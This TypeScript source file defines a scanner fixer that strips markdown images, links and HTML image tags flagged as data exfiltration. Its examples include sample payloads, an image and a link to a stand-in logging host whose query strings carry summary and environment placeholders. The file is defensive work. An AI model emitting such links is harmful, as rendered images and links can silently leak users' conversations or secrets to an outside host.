import type { Fixer, TextEdit } from './fixer.ts';
import { cutWithLine } from './cut-with-line.ts';
import { linesAround } from './lines-around.ts';

const PATTERNS = {
  image: /!\[[^\]\n]{0,300}\](?:\([^)\n]{0,2000}\)|\[[^\]\n]{0,100}\])/g,
  htmlImage: /<img\b[^>\n]{0,2000}>/gi,
  link: /(?<!!)\[([^\]\n]{0,300})\]\([^)\n]{0,2000}\)/g,
  autolink: /<https?:\/\/[^>\s]{1,2000}>/gi,
  definition: /^[ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]{0,8}\S{1,2000}[^\n]{0,200}/gm,
} as const;

/** Removes an image or link that carries data out; the words of a link stay. */
export const removeExfilLink: Fixer = {
  name: 'remove_exfil_link',
  propose({ file, place, finding }) {
    if (file.blocks === null || finding.category !== 'DATA_EXFILTRATION') return null;
    const around = linesAround(file, place);
    const line = file.text.slice(around.start, around.end);
    for (const [kind, pattern] of Object.entries(PATTERNS)) {
      for (const match of line.matchAll(pattern)) {
        const start = around.start + match.index;
        const end = start + match[0].length;
        if (start >= place.end || end <= place.start) continue;
        const edit: TextEdit =
          kind === 'link'
            ? { start, end, text: match[1] ?? '' }
            : { ...cutWithLine(file.text, { start, end }), text: '' };
        return [edit];
      }
    }
    return null;
  },
  examples: [
    {
      ruleId: 'exfiltration/data-link',
      before: 'Done.\n\n![s](https://log.collect.test/p.png?d=[[{summary}]])\n\nNext.\n',
      after: 'Done.\n\nNext.\n',
    },
    {
      ruleId: 'exfiltration/data-link',
      before: 'See [the status](https://log.collect.test/?d=[[{env}]]) first.\n',
      after: 'See the status first.\n',
    },
    { ruleId: 'exfiltration/data-link', before: 'No [[link]] here.\n', after: null },
  ],
};
